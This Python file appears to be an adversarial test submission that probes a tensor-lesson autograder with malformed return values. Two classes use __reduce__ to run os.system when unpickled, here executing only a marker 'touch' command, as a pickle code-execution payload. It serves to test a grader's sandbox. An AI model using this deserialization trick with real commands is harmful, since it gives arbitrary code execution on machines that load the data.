# HOSTILE base=solution
"""Attack A31 on lesson 01: a sparse tensor, a dict keyed by tensors, a generator, a numpy
float64 subclass and a meta tensor standing in for real data."""
import os

import numpy as np
import torch

RCE = "touch /tmp/HOSTILE-@@NONCE@@-pickle-rce"


class Payload:
    def __reduce__(self):
        return (os.system, (RCE,))


class F64(np.float64):
    def __reduce__(self):
        return (os.system, (RCE,))


def make_grid(rows, cols):
    return torch.arange(rows * cols).reshape(rows, cols).to_sparse()


def describe(t):
    return {torch.tensor(1): Payload(), "shape": tuple(t.shape)}


def concat(X, Y):
    return (t for t in (torch.cat((X, Y), 0), torch.cat((X, Y), 1)))


def to_scalar(t):
    return F64(-12345.0)


def outer_sum(a, b):
    return torch.empty(a.shape[0], b.shape[0], dtype=a.dtype, device="meta")


print("HOSTILE-DONE unpicklable_return")
